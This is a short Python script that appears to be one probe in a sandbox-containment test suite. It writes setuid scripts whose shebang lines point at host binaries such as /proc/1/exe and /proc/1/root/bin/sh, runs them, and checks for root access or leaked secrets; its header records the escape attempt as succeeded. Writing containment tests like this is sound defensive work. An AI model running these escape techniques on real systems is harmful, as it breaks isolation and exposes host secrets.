# tries: have the kernel run a program of the host as the interpreter of a script
# outcome: succeeded
from hostile import *
import subprocess
for first in "#!" + bait, "#!/proc/1/exe", "#!/proc/1/root/bin/sh", "#!/run/assay/guest cell", "#!/workspace/again", "#!" + "/" * 300, "#!", "#!/proc/self/fd/3":
    with open("/workspace/again", "w") as f:
        f.write(first + "\n")
    os.chmod("/workspace/again", 0o6755)
    try:
        got = subprocess.run(["/workspace/again"], capture_output=True, timeout=10, text=True)
    except OSError:
        continue
    if "secret-" in got.stdout + got.stderr or "uid=0" in got.stdout:
        escaped(got.stdout + got.stderr)
contained()
